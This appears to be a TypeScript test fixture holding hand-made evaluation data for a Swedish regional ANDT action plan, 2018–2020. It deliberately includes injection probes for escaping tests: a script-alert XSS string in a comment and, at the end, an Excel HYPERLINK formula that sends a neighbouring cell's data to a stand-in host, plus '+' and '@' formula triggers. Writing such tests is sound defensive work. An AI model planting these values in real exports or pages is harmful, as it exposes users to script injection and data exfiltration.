import type {
  ActivityEvaluation,
  ActivityYear,
  IndicatorEvaluation,
  IndicatorYear,
  Observation,
  PlanEvaluation,
  Status,
  StatusSummary,
} from "../../src/index.js";
import { STATUSES } from "../../src/index.js";

/** The comment that tries every escape: markup, quotes, `&`, a pipe, a semicolon and a line break. */
export const NASTY_COMMENT = "Polis & kommun: färre träffar; se <script>alert(\"x\")</script> | protokoll\nRad två med 'citat'";

const AS_OF = "2020-03-31";
const YEARS = [2018, 2019, 2020] as const;

function counts(statuses: readonly Status[]): Record<Status, number> {
  const out = Object.fromEntries(STATUSES.map((s) => [s, 0])) as Record<Status, number>;
  for (const s of statuses) out[s] += 1;
  return out;
}

/** A summary made from a list of statuses; hand-made data, so the totals are counted, not typed. */
function summary(year: number, statuses: readonly Status[]): StatusSummary {
  const c = counts(statuses);
  const total = statuses.length;
  const shares = Object.fromEntries(STATUSES.map((s) => [s, total === 0 ? 0 : c[s] / total])) as Record<Status, number>;
  return { year, counts: c, shares, total };
}

function notYetDue(year: number): IndicatorYear {
  return {
    year,
    status: "not_yet_due",
    reason: { code: "year_not_ended", year, asOf: AS_OF },
    message: `År ${year} är inte slut den ${AS_OF}; inget värde krävs ännu.`,
    expected: false,
    reported: false,
    observations: [],
  };
}

const obs = (indicator: string, year: number, fields: Partial<Observation> = {}): Observation => ({ indicator, year, ...fields });

const i11: IndicatorEvaluation = {
  kind: "indicator",
  id: "1.1-1",
  text: "Antal deltagare vid utbildning i ansvarsfull alkoholservering",
  activity: "1.1",
  measure: { type: "count", aggregation: "sum", higherIsBetter: true, countsPeople: true, unit: "deltagare" },
  target: { per: "year", value: 40, text: "40 deltagare per år" },
  countsPeople: true,
  years: [
    {
      year: 2018,
      status: "partly_met",
      reason: { code: "target_partly_reached", value: 38, target: 40, ratio: 0.95 },
      message: "38 av målet 40 (95 %).",
      expected: true,
      reported: true,
      value: 38,
      target: 40,
      observations: [obs("1.1-1", 2018, { value: 38 })],
    },
    {
      year: 2019,
      status: "met",
      reason: { code: "target_reached", value: 45, target: 40 },
      message: "Målet 40 är nått (45).",
      expected: true,
      reported: true,
      value: 45,
      target: 40,
      observations: [
        obs("1.1-1", 2019, {
          value: 45,
          bySex: {
            cells: [
              { sex: "female", value: 4 },
              { sex: "male", value: 41 },
            ],
          },
        }),
      ],
      bySex: {
        cells: [
          { sex: "female", value: 4 },
          { sex: "male", value: 41 },
        ],
      },
      fromPrevious: { from: 38, fromYear: 2018, to: 45, difference: 7, relative: 7 / 38, direction: "improved" },
    },
    notYetDue(2020),
  ],
};

const i12: IndicatorEvaluation = {
  kind: "indicator",
  id: "1.2-1",
  text: "Tillsynsplan för länet är beslutad",
  activity: "1.2",
  measure: { type: "milestone", deadline: "2019-06-30" },
  target: { per: "period", deadline: "2019-06-30", text: "under första halvåret 2019" },
  countsPeople: false,
  years: [
    {
      year: 2018,
      status: "not_expected",
      reason: { code: "in_progress", deadline: "2019-06-30" },
      message: "Ännu inte genomfört; ska vara klart 2019-06-30.",
      expected: false,
      reported: false,
      observations: [],
    },
    {
      year: 2019,
      status: "partly_met",
      reason: { code: "done_late", doneOn: "2019-09-15", deadline: "2019-06-30" },
      message: "Genomfört 2019-09-15, efter tidpunkten 2019-06-30.",
      expected: true,
      reported: true,
      value: 1,
      observations: [obs("1.2-1", 2019, { done: true, doneOn: "2019-09-15" })],
    },
    notYetDue(2020),
  ],
};

const i131: IndicatorEvaluation = {
  kind: "indicator",
  id: "1.3-1",
  text: "Antal samverkansträffar mellan polis och kommuner",
  activity: "1.3",
  measure: { type: "frequency", timesPerYear: 10 },
  target: { per: "year", value: 10, text: "10 gånger per år" },
  countsPeople: false,
  years: [
    {
      year: 2018,
      status: "partly_met",
      reason: { code: "target_partly_reached", value: 8, target: 10, ratio: 0.8 },
      message: "8 av målet 10 (80 %).",
      expected: true,
      reported: true,
      value: 8,
      target: 10,
      observations: [obs("1.3-1", 2018, { value: 8 })],
    },
    {
      year: 2019,
      status: "not_met",
      reason: { code: "target_not_reached", value: 3, target: 10, ratio: 0.3 },
      message: "3 av målet 10 (30 %): för långt från målet.",
      expected: true,
      reported: true,
      value: 3,
      target: 10,
      observations: [obs("1.3-1", 2019, { value: 3, comment: NASTY_COMMENT })],
      fromPrevious: { from: 8, fromYear: 2018, to: 3, difference: -5, relative: -5 / 8, direction: "worsened" },
    },
    notYetDue(2020),
  ],
};

const i132: IndicatorEvaluation = {
  kind: "indicator",
  id: "1.3-2",
  text: "Antal deltagande poliser och kommunanställda",
  activity: "1.3",
  measure: { type: "count", aggregation: "sum", countsPeople: true },
  countsPeople: true,
  years: [
    {
      year: 2018,
      status: "reported",
      reason: { code: "no_target", value: 20 },
      message: "Redovisat: 20; inget mål att jämföra med.",
      expected: true,
      reported: true,
      value: 20,
      observations: [obs("1.3-2", 2018, { value: 20 })],
    },
    {
      year: 2019,
      status: "reported",
      reason: { code: "no_target", value: 23 },
      message: "Redovisat: 23; inget mål att jämföra med.",
      expected: true,
      reported: true,
      value: 23,
      observations: [
        obs("1.3-2", 2019, {
          value: 23,
          bySex: {
            cells: [
              { sex: "female", value: 14 },
              { sex: "male", value: 9 },
            ],
          },
        }),
      ],
      bySex: {
        cells: [
          { sex: "female", value: 14 },
          { sex: "male", value: 9 },
        ],
      },
      fromPrevious: { from: 20, fromYear: 2018, to: 23, difference: 3, relative: 0.15, direction: "changed" },
    },
    notYetDue(2020),
  ],
};

const i21: IndicatorEvaluation = {
  kind: "indicator",
  id: "2.1-1",
  text: "Sammanställning av länets föräldraskapsstöd",
  activity: "2.1",
  measure: { type: "qualitative" },
  baseline: { year: 2015, text: "Kartläggning 2015" },
  countsPeople: false,
  years: [
    {
      year: 2018,
      status: "reported",
      reason: { code: "account_given", baseline: { year: 2015, text: "Kartläggning 2015" } },
      message: "Redovisning lämnad; baslinje 2015: Kartläggning 2015",
      expected: true,
      reported: true,
      observations: [obs("2.1-1", 2018, { text: "Sju kommuner erbjuder ABC." })],
    },
    {
      year: 2019,
      status: "reported",
      reason: { code: "account_given", baseline: { year: 2015, text: "Kartläggning 2015" } },
      message: "Redovisning lämnad; baslinje 2015: Kartläggning 2015",
      expected: true,
      reported: true,
      observations: [obs("2.1-1", 2019, { text: "Alla åtta kommuner erbjuder ABC." })],
    },
    notYetDue(2020),
  ],
};

const i221: IndicatorEvaluation = {
  kind: "indicator",
  id: "2.2-1",
  text: "Antal deltagare i föräldrautbildning",
  activity: "2.2",
  measure: { type: "count", aggregation: "sum", higherIsBetter: true, countsPeople: true },
  countsPeople: true,
  years: [
    {
      year: 2018,
      status: "reported",
      reason: { code: "no_target", value: 15 },
      message: "Redovisat: 15; inget mål att jämföra med.",
      expected: true,
      reported: true,
      value: 15,
      observations: [obs("2.2-1", 2018, { value: 15 })],
    },
    {
      year: 2019,
      status: "missing",
      reason: { code: "no_value", comment: "Uppgift saknas från kommunerna" },
      message: "Ingen uppgift redovisad (Uppgift saknas från kommunerna).",
      expected: true,
      reported: false,
      observations: [obs("2.2-1", 2019, { comment: "Uppgift saknas från kommunerna" })],
    },
    notYetDue(2020),
  ],
};

const i222: IndicatorEvaluation = {
  kind: "indicator",
  id: "2.2-2",
  text: "Antal föräldrar som nåtts av information",
  activity: "2.2",
  measure: { type: "count", aggregation: "sum", countsPeople: true },
  countsPeople: true,
  years: [
    {
      year: 2018,
      status: "reported",
      reason: { code: "no_target", value: 950 },
      message: "Redovisat: 950; inget mål att jämföra med.",
      expected: true,
      reported: true,
      value: 950,
      observations: [obs("2.2-2", 2018, { value: 950 })],
    },
    {
      year: 2019,
      status: "reported",
      reason: { code: "no_target", value: 1200 },
      message: "Redovisat: 1\u00a0200; inget mål att jämföra med.",
      expected: true,
      reported: true,
      value: 1200,
      observations: [obs("2.2-2", 2019, { value: 1200, source: "Kommunernas redovisning" })],
      fromPrevious: { from: 950, fromYear: 2018, to: 1200, difference: 250, relative: 250 / 950, direction: "changed" },
    },
    notYetDue(2020),
  ],
};

const i23: IndicatorEvaluation = {
  kind: "indicator",
  id: "2.3-1",
  text: "Kartläggning av drogfria fritidsmiljöer genomförd",
  activity: "2.3",
  measure: { type: "cycle", everyYears: 2, firstYear: 2018 },
  countsPeople: false,
  years: [
    {
      year: 2018,
      status: "met",
      reason: { code: "done_in_cycle", cycle: { start: "2018", end: "2019" } },
      message: "Genomfört i perioden 2018–2019.",
      expected: true,
      reported: true,
      value: 1,
      observations: [obs("2.3-1", 2018, { done: true })],
    },
    {
      year: 2019,
      status: "not_expected",
      reason: { code: "already_done", year: 2018 },
      message: "Redan genomfört 2018.",
      expected: false,
      reported: false,
      observations: [],
    },
    notYetDue(2020),
  ],
};

const i24: IndicatorEvaluation = {
  kind: "indicator",
  id: "2.4-1",
  text: "Andel skolor med rökfri skolgård",
  activity: "2.4",
  measure: { type: "share", higherIsBetter: true },
  target: { per: "period", value: 0.7 },
  baseline: { year: 2017, value: 0.6 },
  countsPeople: false,
  years: [
    {
      year: 2018,
      status: "partly_met",
      reason: { code: "target_partly_reached", value: 0.65, target: 0.7, ratio: 0.65 / 0.7 },
      message: "0,65 av målet 0,7 (92,9 %).",
      expected: true,
      reported: true,
      value: 0.65,
      target: 0.7,
      observations: [obs("2.4-1", 2018, { numerator: 13, denominator: 20 })],
      fromBaseline: { from: 0.6, fromYear: 2017, to: 0.65, difference: 0.65 - 0.6, relative: (0.65 - 0.6) / 0.6, direction: "improved" },
    },
    {
      year: 2019,
      status: "met",
      reason: { code: "target_reached", value: 0.75, target: 0.7 },
      message: "Målet 0,7 är nått (0,75).",
      expected: true,
      reported: true,
      value: 0.75,
      target: 0.7,
      observations: [obs("2.4-1", 2019, { numerator: 15, denominator: 20 })],
      fromPrevious: {
        from: 0.65,
        fromYear: 2018,
        to: 0.75,
        difference: 0.75 - 0.65,
        relative: (0.75 - 0.65) / 0.65,
        direction: "improved",
      },
      fromBaseline: { from: 0.6, fromYear: 2017, to: 0.75, difference: 0.75 - 0.6, relative: (0.75 - 0.6) / 0.6, direction: "improved" },
    },
    notYetDue(2020),
  ],
};

// Singular and plural, as Swedish writes them: "1 ej uppfylld", "2 ej uppfyllda".
const IN_WORDS: Record<Status, [string, string]> = {
  met: ["uppfylld", "uppfyllda"],
  partly_met: ["delvis uppfylld", "delvis uppfyllda"],
  not_met: ["ej uppfylld", "ej uppfyllda"],
  reported: ["redovisad utan bedömning", "redovisade utan bedömning"],
  missing: ["saknas", "saknas"],
  not_yet_due: ["ej aktuell än", "ej aktuella än"],
  not_expected: ["utan krav i år", "utan krav i år"],
};

/** An activity whose status per year is given; the indicator counts are counted from its indicators. */
function activity(code: string, text: string, statuses: [Status, Status], indicators: IndicatorEvaluation[]): ActivityEvaluation {
  const years: ActivityYear[] = [...statuses, "not_yet_due" as const].map((status, i) => {
    const year = YEARS[i] as number;
    const inds = counts(indicators.map((ind) => (ind.years.find((y) => y.year === year) as IndicatorYear).status));
    const parts = STATUSES.filter((s) => inds[s] > 0).map((s) => `${inds[s]} ${IN_WORDS[s][inds[s] === 1 ? 0 : 1]}`);
    return { year, status, message: `Indikatorer: ${parts.join(", ")}.`, indicators: inds };
  });
  return { kind: "activity", code, text, years, indicators };
}

const a11 = activity("1.1", "Utbildning i ansvarsfull alkoholservering (AAS) för restaurangpersonal", ["partly_met", "met"], [i11]);
const a12 = activity("1.2", "Ta fram en gemensam tillsynsplan för länets kommuner", ["not_expected", "partly_met"], [i12]);
const a13 = activity(
  "1.3",
  'Samverkan mellan polis och kommuner kring <langning> & "illegal" handel',
  ["partly_met", "not_met"],
  [i131, i132],
);
const a21 = activity("2.1", "Sammanställa och sprida länets föräldraskapsstöd", ["reported", "reported"], [i21]);
const a22 = activity("2.2", "Föräldrautbildning i alla kommuner", ["reported", "missing"], [i221, i222]);
const a23 = activity("2.3", "Kartlägga drogfria fritidsmiljöer vartannat år", ["met", "not_expected"], [i23]);
const a24 = activity("2.4", "Stödja rökfria skolgårdar", ["partly_met", "met"], [i24]);

const statusesIn = (activities: ActivityEvaluation[], year: number): Status[] =>
  activities.map((a) => (a.years.find((y) => y.year === year) as ActivityYear).status);
const summaries = (activities: ActivityEvaluation[]): StatusSummary[] => YEARS.map((y) => summary(y, statusesIn(activities, y)));

const area1a = [a11, a12];
const area1b = [a13];
const area2a = [a21, a22];
const area2b = [a23, a24];
const all = [...area1a, ...area1b, ...area2a, ...area2b];
const indicators = all.flatMap((a) => a.indicators);

/**
 * A hand-made evaluation of a small plan, 2018–2020 as of 2020-03-31: two sub-goals, four areas, seven
 * activities with every status (2020 is not yet due), a people count broken down by sex with a cell below 5
 * (1.1-1, 2019), an unsuppressed breakdown (1.3-2, 2019), a milestone done late (1.2-1), a missing value
 * (2.2-1, 2019), a share with a baseline (2.4-1) and a comment that tries every escape (1.3-1, 2019).
 */
export function sampleEvaluation(): PlanEvaluation {
  // A fresh copy each time: tests freeze it or change it.
  return structuredClone(SAMPLE);
}

const SAMPLE: PlanEvaluation = {
  kind: "plan_evaluation",
  plan: { id: "testlan-2018-2020", title: "Regional handlingsplan ANDT 2018–2020 <Testlän>", period: { start: "2018", end: "2020" } },
  asOf: AS_OF,
  years: [...YEARS],
  lang: "sv",
  summary: summaries(all),
  indicatorSummary: YEARS.map((y) =>
    summary(
      y,
      indicators.map((i) => (i.years.find((iy) => iy.year === y) as IndicatorYear).status),
    ),
  ),
  coverage: [
    { year: 2018, expected: 8, reported: 8, share: 1 },
    { year: 2019, expected: 8, reported: 7, share: 7 / 8 },
    { year: 2020, expected: 0, reported: 0 },
  ],
  genderCoverage: [
    { year: 2018, peopleCounts: 4, withSex: 0, partial: 0, share: 0 },
    { year: 2019, peopleCounts: 3, withSex: 2, partial: 0, share: 2 / 3 },
    { year: 2020, peopleCounts: 0, withSex: 0, partial: 0 },
  ],
  missing: [{ year: 2019, indicator: "2.2-1", activity: "2.2", text: "Antal deltagare i föräldrautbildning" }],
  unmatched: [obs("9.9-1", 2019, { value: 2 })],
  subGoals: [
    {
      kind: "sub_goal",
      code: "1",
      name: "Tillgång",
      text: "Tillgången till narkotika, dopningsmedel, alkohol och tobak ska minska.",
      years: summaries([...area1a, ...area1b]),
      areas: [
        {
          kind: "collaboration_area",
          id: "1a",
          title: "En effektiv och samordnad alkohol- och tobakstillsyn",
          years: summaries(area1a),
          activities: area1a,
        },
        {
          kind: "collaboration_area",
          id: "1b",
          title: "En effektiv brottsbekämpning av illegal handel",
          years: summaries(area1b),
          activities: area1b,
        },
      ],
    },
    {
      kind: "sub_goal",
      code: "2",
      text: "Antalet pojkar och flickor samt unga kvinnor och män som börjar använda narkotika, dopningsmedel och tobak eller debuterar tidigt med alkohol ska successivt minska.",
      years: summaries([...area2a, ...area2b]),
      areas: [
        { kind: "collaboration_area", id: "2a", title: "Föräldraskapsstöd", years: summaries(area2a), activities: area2a },
        {
          kind: "collaboration_area",
          id: "2b",
          title: "Drogfria miljöer | skola & fritid",
          years: summaries(area2b),
          activities: area2b,
        },
      ],
    },
  ],
};

/** An area title that Excel would run as a formula: a link that sends the next cell away. */
export const FORMULA_TITLE = '=HYPERLINK("https://example.invalid/?d="&E2;"Klicka här")';
/** An indicator text that starts like a phone number, which Excel would read as a sum. */
export const PLUS_TEXT = "+46 470-123 45 svarar på frågor om utbildningen";
/** A comment that starts with `@`, which Excel would read as a function. */
export const AT_COMMENT = "@SUMMA(1+1) enligt kommunens rapport";

/**
 * {@link sampleEvaluation} with text that a spreadsheet would run as a formula: area 1a titled
 * {@link FORMULA_TITLE}, indicator 1.1-1's text {@link PLUS_TEXT}, and 1.1-1's 2019 observation commented
 * {@link AT_COMMENT}. 1.3-1 keeps its change of -5 from 2018 to 2019.
 */
export function formulaEvaluation(): PlanEvaluation {
  const evaluation = sampleEvaluation();
  const area = evaluation.subGoals[0]?.areas[0];
  const indicator = area?.activities[0]?.indicators[0];
  const observation = indicator?.years[1]?.observations[0];
  if (area === undefined || indicator === undefined || observation === undefined) throw new Error("the sample has changed");
  area.title = FORMULA_TITLE;
  indicator.text = PLUS_TEXT;
  observation.comment = AT_COMMENT;
  return evaluation;
}
